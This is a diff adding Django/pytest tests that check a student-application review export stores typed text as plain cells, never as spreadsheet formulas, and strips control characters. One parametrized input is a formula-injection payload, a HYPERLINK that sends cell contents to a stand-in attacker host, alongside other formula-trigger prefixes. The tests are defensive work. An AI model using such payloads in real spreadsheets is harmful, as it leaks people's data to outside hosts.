@@ -422,6 +422,77 @@ def test_the_export_with_status_all_includes_decided_applications(client, staff,
     assert len(rows) == 1 + 3
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "=1+1",
+        "+86 138",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+    ids=["hyperlink", "equals", "plus", "minus", "at", "tab", "carriage-return"],
+)
+def test_the_export_writes_what_students_typed_as_text_never_as_a_formula(client, staff, cohort, text):
+    student = StudentFactory(full_name=text)
+    StudentProfileFactory(user=student, major=text, class_name=text[:50])
+    SubmittedApplicationFactory(student=student, cohort=cohort, decision_note=text)
+    client.force_login(staff)
+
+    response = client.get(reverse("internships:review_export"), {"cohort": cohort.pk})
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert [cell.data_type for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
+    header = [cell.value for cell in sheet[1]]
+    row = {title: cell for title, cell in zip(header, sheet[2], strict=True)}
+    for title in ("Full name", "Major", "Class", "Note"):
+        assert row[title].data_type == "s", title
+        # The text is kept as typed (a carriage return reads back as a line feed in XML).
+        assert row[title].value.replace("\n", "\r") == text.replace("\n", "\r")[: len(row[title].value)]
+
+
+def test_the_export_drops_characters_a_workbook_cannot_hold(client, staff, cohort):
+    """A control character pasted into a profile would otherwise make the export fail."""
+    student = StudentFactory(full_name="王\x01小明")
+    StudentProfileFactory(user=student)
+    SubmittedApplicationFactory(student=student, cohort=cohort, decision_note="ok\x0bthen")
+    client.force_login(staff)
+
+    response = client.get(reverse("internships:review_export"), {"cohort": cohort.pk})
+
+    assert response.status_code == 200
+    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
+    assert (rows[1][1], rows[1][-1]) == ("王小明", "okthen")
+
+
+def test_every_export_writes_its_cells_through_the_one_text_safe_helper():
+    """openpyxl's own append turns a string starting with = into a formula: every module that
+    builds a workbook writes its rows with spreadsheet_row (and no CSV writer bypasses it)."""
+    from pathlib import Path
+
+    from django.conf import settings
+
+    from tests.source_files import project_files
+
+    root = Path(settings.BASE_DIR)
+    writers = [
+        path
+        for path in project_files(".py")
+        if path.name != "spreadsheets.py"
+        and any(
+            name in path.read_text(encoding="utf-8") for name in ("Workbook(", "csv.writer", "DictWriter")
+        )
+    ]
+    assert writers  # the review export at least
+    assert [
+        str(path.relative_to(root))
+        for path in writers
+        if "spreadsheet_row(" not in path.read_text(encoding="utf-8")
+    ] == []
+
+
 # --- Staff digest --------------------------------------------------------------------------------
 
 
